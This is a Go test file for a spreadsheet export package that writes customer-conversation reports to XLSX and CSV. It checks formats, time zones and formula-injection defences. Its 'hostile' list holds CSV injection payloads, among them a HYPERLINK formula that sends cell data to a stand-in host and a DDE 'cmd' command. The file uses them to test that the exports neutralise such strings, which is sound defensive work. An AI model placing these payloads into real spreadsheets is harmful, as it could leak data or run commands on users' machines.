package sheet

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"math"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// hostile are texts a spreadsheet would run as formulas if they were not kept as text.
var hostile = []string{
	`=HYPERLINK("http://example.test/?x="&A1,"clique")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1,2)",
	"   =1+1",
	"\u00a0\u200b=1+1",
	"\uFF1D1+1",
	"\uFF0B1",
	"\uFF0D1",
	"\uFF201",
	"\t=1",
	"\r=1",
	"\n=1",
}

func testTable(loc *time.Location, l Locale) Table {
	return Table{
		Name: "Conversas",
		About: []Field{
			{Label: "Cliente", Value: Str("Academia Fit")},
			{Label: "Período", Value: Str("01/03/2026 a 30/03/2026")},
			{Label: "Filtros", Value: Str("Busca: “=preço”")},
			{Label: "Gerado em", Value: Time(time.Date(2026, 3, 31, 13, 15, 0, 0, time.UTC))},
		},
		Columns: []Column{
			{Key: "id", Title: "ID", Kind: Code},
			{Key: "caixa_id", Title: "Caixa de entrada", Kind: Code},
			{Key: "contato", Title: "Contato", Kind: Text},
			{Key: "telefone", Title: "Telefone", Kind: Code},
			{Key: "msgs", Title: "Mensagens", Kind: Count},
			{Key: "media", Title: "Média", Kind: Decimal},
			{Key: "taxa", Title: "Taxa", Kind: Percent},
			{Key: "espera_s", Title: "Espera", Kind: Duration},
			{Key: "dia", Title: "Dia", Kind: Date},
			{Key: "criada_em", Title: "Criada em", Kind: DateTime},
			{Key: "lead", Title: "Lead", Kind: YesNo},
			{Key: "interno", Title: "Interno", Kind: Code, CSVOnly: true},
		},
		Loc:    loc,
		Locale: l,
	}
}

func testRows() [][]Value {
	created := time.Date(2026, 3, 2, 2, 30, 15, 0, time.UTC) // 01/03 23:30:15 in São Paulo
	rows := [][]Value{
		{Int(4711), Labeled("2", "WhatsApp Recepção"), Str("Ana"), Str("+5511987654321"), Int(12345), Num(2.5),
			Num(0.2314), Num(23058.676), Time(time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)), Time(created), Bool(true), Str("x")},
		{Int(4712), Labeled("3", "Instagram"), Str(""), Str("5511987654321"), Int(0), Null,
			Num(-0.05), Null, Time(time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC)), Time(created.Add(90 * time.Hour)), Bool(false), Null},
	}
	for i, h := range hostile {
		rows = append(rows, []Value{Int(int64(5000 + i)), Labeled("9", h), Str(h), Str(h), Int(1), Num(1), Num(1), Num(1),
			Time(time.Date(2026, 3, 3, 0, 0, 0, 0, time.UTC)), Time(created), Bool(true), Str(h)})
	}
	return rows
}

func write(t *testing.T, f Format, tbl Table, rows [][]Value) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := New(&buf, f, tbl)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Abort()
	for _, r := range rows {
		if err := w.Row(r...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestXLSXTypedCells(t *testing.T) {
	t.Parallel()
	sp, _ := time.LoadLocation("America/Sao_Paulo")
	tbl := testTable(sp, PtBR)
	rows := testRows()
	data := write(t, XLSX, tbl, rows)
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 1 || got[0] != "Conversas" {
		t.Fatalf("sheets %v", got)
	}
	const sh = "Conversas"
	get := func(cell string) string {
		v, err := f.GetCellValue(sh, cell)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	raw := func(cell string) string {
		v, err := f.GetCellValue(sh, cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}

	// The header block: title, then label and value per line, a blank row, the header on row 7.
	if get("A1") != "Conversas" || get("A2") != "Cliente" || get("B2") != "Academia Fit" || get("A4") != "Filtros" ||
		get("B4") != "Busca: “=preço”" || get("A5") != "Gerado em" || get("B5") != "31/03/2026 10:15" || get("A6") != "" {
		t.Fatalf("header block: %q %q %q %q %q %q", get("A1"), get("A2"), get("B2"), get("B4"), get("B5"), get("A6"))
	}
	head, _ := f.GetRows(sh)
	if strings.Join(head[6], "|") != "ID|Caixa de entrada|Contato|Telefone|Mensagens|Média|Taxa|Espera|Dia|Criada em|Lead" {
		t.Fatalf("header row %q (the CSV-only column must not be there)", head[6])
	}

	// Cell types, number formats, raw and shown values of the first row (row 8).
	type want struct {
		cell, raw, shown string
		typ              excelize.CellType
		numFmt           int
		custom           string
	}
	for _, w := range []want{
		{"A8", "4711", "4711", excelize.CellTypeInlineString, 49, ""},
		{"B8", "WhatsApp Recepção", "WhatsApp Recepção", excelize.CellTypeInlineString, 49, ""},
		{"C8", "Ana", "Ana", excelize.CellTypeInlineString, 49, ""},
		{"D8", "+5511987654321", "+5511987654321", excelize.CellTypeInlineString, 49, ""},
		{"E8", "12345", "12,345", excelize.CellTypeUnset, 3, ""},
		{"F8", "2.5", "2.50", excelize.CellTypeUnset, 4, ""},
		{"G8", "0.2314", "23.1%", excelize.CellTypeUnset, 0, "0.0%"},
		{"H8", strconv.FormatFloat(23058.676/86400, 'f', -1, 64), "6:24:19", excelize.CellTypeUnset, 0, "[h]:mm:ss"},
		{"I8", "46082", "01/03/2026", excelize.CellTypeUnset, 0, "dd/mm/yyyy"},
		{"J8", "", "01/03/2026 23:30", excelize.CellTypeUnset, 0, "dd/mm/yyyy hh:mm"},
		{"K8", "1", "Sim", excelize.CellTypeUnset, 0, `"Sim";"Sim";"Não"`},
		// 0 takes the format's third (zero) section, "Não", in Excel, LibreOffice and Google Sheets;
		// excelize's own renderer shows the first section for zero, so only the raw value is read.
		{"K9", "0", "", excelize.CellTypeUnset, 0, `"Sim";"Sim";"Não"`},
	} {
		typ, err := f.GetCellType(sh, w.cell)
		if err != nil || typ != w.typ {
			t.Errorf("%s: type %v, want %v (%v)", w.cell, typ, w.typ, err)
		}
		if rv, wv := raw(w.cell), w.raw; wv != "" && rv != wv && !closeFloats(rv, wv) {
			t.Errorf("%s: raw %q, want %q", w.cell, rv, wv)
		}
		if got := get(w.cell); w.shown != "" && got != w.shown {
			t.Errorf("%s: shown %q, want %q", w.cell, got, w.shown)
		}
		id, _ := f.GetCellStyle(sh, w.cell)
		st, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		custom := ""
		if st.CustomNumFmt != nil {
			custom = *st.CustomNumFmt
		}
		if st.NumFmt != w.numFmt && w.custom == "" || custom != w.custom {
			t.Errorf("%s: number format %d %q, want %d %q", w.cell, st.NumFmt, custom, w.numFmt, w.custom)
		}
	}
	// The instant is in the table's timezone: 02:30:15 UTC is 23:30:15 the day before.
	j, _ := strconv.ParseFloat(raw("J8"), 64)
	if want := float64(46082) + (23*3600+30*60+15)/86400.0; math.Abs(j-want) > 1e-9 {
		t.Errorf("J8 = %v, want %v", j, want)
	}
	// Empty values are empty cells, not zeros.
	if raw("F9") != "" || raw("H9") != "" {
		t.Errorf("null cells hold %q %q", raw("F9"), raw("H9"))
	}

	// Hostile texts are string cells with exactly their text; nothing anywhere is a formula.
	for i, h := range hostile {
		r := strconv.Itoa(10 + i)
		for _, c := range []string{"B", "C", "D"} {
			if typ, _ := f.GetCellType(sh, c+r); typ != excelize.CellTypeInlineString {
				t.Errorf("%s%s (%q) has type %v", c, r, h, typ)
			}
			if got := get(c + r); got != strings.TrimRight(h, "\r\n") && got != h {
				t.Errorf("%s%s = %q, want %q", c, r, got, h)
			}
			if fx, _ := f.GetCellFormula(sh, c+r); fx != "" {
				t.Errorf("%s%s is a formula %q", c, r, fx)
			}
		}
	}
	parts := unzip(t, data)
	if bytes.Contains(parts["xl/worksheets/sheet1.xml"], []byte("<f>")) || bytes.Contains(parts["xl/worksheets/sheet1.xml"], []byte("<f ")) {
		t.Error("the sheet holds a formula element")
	}

	// Frozen under the header row; the table's auto-filter covers the header and every row.
	panes, err := f.GetPanes(sh)
	if err != nil || !panes.Freeze || panes.YSplit != 7 || panes.TopLeftCell != "A8" {
		t.Errorf("panes %+v (%v)", panes, err)
	}
	tables, err := f.GetTables(sh)
	last := strconv.Itoa(7 + len(rows))
	if err != nil || len(tables) != 1 || tables[0].Range != "A7:K"+last || tables[0].Name != "Conversas" {
		t.Fatalf("tables %+v (%v)", tables, err)
	}
	if !bytes.Contains(parts["xl/tables/table1.xml"], []byte(`<autoFilter ref="A7:K`+last+`"`)) {
		t.Errorf("no auto-filter in %s", parts["xl/tables/table1.xml"])
	}
	// Columns are sized: the contact column fits the longest hostile text (cut at maxWidth), the
	// id column its title and the About labels.
	if w, _ := f.GetColWidth(sh, "C"); w < 20 || w > maxWidth {
		t.Errorf("contact column width %v", w)
	}
	if w, _ := f.GetColWidth(sh, "A"); w < float64(len("Gerado em")) {
		t.Errorf("first column width %v", w)
	}
}

func TestXLSXEnglish(t *testing.T) {
	t.Parallel()
	tbl := testTable(time.UTC, English)
	data := write(t, XLSX, tbl, testRows()[:2])
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for cell, want := range map[string]string{"I8": "2026-03-01", "J8": "2026-03-02 02:30", "K8": "Yes"} {
		if got, _ := f.GetCellValue("Conversas", cell); got != want {
			t.Errorf("%s = %q, want %q", cell, got, want)
		}
	}
}

func TestNeutralize(t *testing.T) {
	t.Parallel()
	for _, h := range hostile {
		if got := Neutralize(h); got != "'"+h {
			t.Errorf("Neutralize(%q) = %q", h, got)
		}
	}
	for _, s := range []string{"", "Ana", "-0.231", "+5511987654321", " -12,5", "42", "a=b", "e-mail", "x@y.test",
		"(11) 98765-4321", "   ", "\u00a0Ana", "5-3"} {
		if got := Neutralize(s); got != s {
			t.Errorf("Neutralize(%q) = %q, want it unchanged", s, got)
		}
	}
	for _, s := range []string{"-1+2", "+55 11 98765-4321", "-", "- item", "=", "@", "1.", "+.5"} {
		if got := Neutralize(s); got != s && got != "'"+s {
			t.Errorf("Neutralize(%q) = %q", s, got)
		} else if formulaStart(rune(s[0])) && got == s {
			t.Errorf("Neutralize(%q) left it alone", s)
		}
	}
}

func TestCSVMachineForms(t *testing.T) {
	t.Parallel()
	sp, _ := time.LoadLocation("America/Sao_Paulo")
	recs, err := csv.NewReader(bytes.NewReader(write(t, CSV, testTable(sp, PtBR), testRows()))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := "4711,2,Ana,+5511987654321,12345,2.5,0.231,23058.676,2026-03-01,2026-03-01T23:30:15-03:00,1,x"
	if got := strings.Join(recs[1], ","); got != want {
		t.Errorf("row 1:\n got %s\nwant %s", got, want)
	}
	if got := strings.Join(recs[2], ","); got != "4712,3,,5511987654321,0,,-0.05,,2026-03-02,2026-03-05T17:30:15-03:00,0," {
		t.Errorf("row 2: %s", got)
	}
	if recs[3][2] != "'"+hostile[0] {
		t.Errorf("hostile text in the CSV: %q", recs[3][2])
	}
}

// Edge cases of the .xlsx: no rows at all still makes a valid table; a value may carry its own
// kind; sheet and table names are ones Excel accepts.
func TestXLSXEdges(t *testing.T) {
	t.Parallel()
	tbl := Table{Name: "Indicadores: [1ª/2ª] resposta, período muito longo", Columns: []Column{
		{Key: "indicador", Title: "Indicador", Kind: Text}, {Key: "valor", Title: "Valor", Kind: Decimal}}}
	empty := write(t, XLSX, tbl, nil)
	f, err := excelize.OpenReader(bytes.NewReader(empty))
	if err != nil {
		t.Fatal(err)
	}
	name := f.GetSheetList()[0]
	if len([]rune(name)) > 31 || strings.ContainsAny(name, `:[]/`) {
		t.Errorf("sheet name %q", name)
	}
	if tables, _ := f.GetTables(name); len(tables) != 1 || tables[0].Range != "A3:B4" {
		t.Errorf("tables of an empty export: %+v", tables)
	}
	f.Close()

	mixed := write(t, XLSX, Table{Columns: tbl.Columns}, [][]Value{
		{Str("Conversas"), Int(12)}, {Str("Taxa"), Num(0.5).As(Percent)}, {Str("Tempo"), Num(90).As(Duration)}})
	f, err = excelize.OpenReader(bytes.NewReader(mixed))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sh := f.GetSheetList()[0]
	for cell, want := range map[string]string{"A1": "Indicador", "B2": "12.00", "B3": "50.0%", "B4": "0:01:30"} {
		if got, _ := f.GetCellValue(sh, cell); got != want {
			t.Errorf("%s = %q, want %q", cell, got, want)
		}
	}
	for in, want := range map[string]string{"Conversas por dia": "Conversas_por_dia", "Matrículas": "Matriculas",
		"1ª resposta": "Tabela_1a_resposta", "CSAT1": "CSAT1", "ABC12": "Tabela_ABC12", "": "Tabela", "R1C1": "Tabela_R1C1", "Leads": "Leads"} {
		if got := tableName(in); got != want {
			t.Errorf("tableName(%q) = %q, want %q", in, got, want)
		}
	}
}

func closeFloats(a, b string) bool {
	x, err1 := strconv.ParseFloat(a, 64)
	y, err2 := strconv.ParseFloat(b, 64)
	return err1 == nil && err2 == nil && math.Abs(x-y) < 1e-12
}

func unzip(t *testing.T, data []byte) map[string][]byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name], _ = io.ReadAll(rc)
		rc.Close()
	}
	return out
}
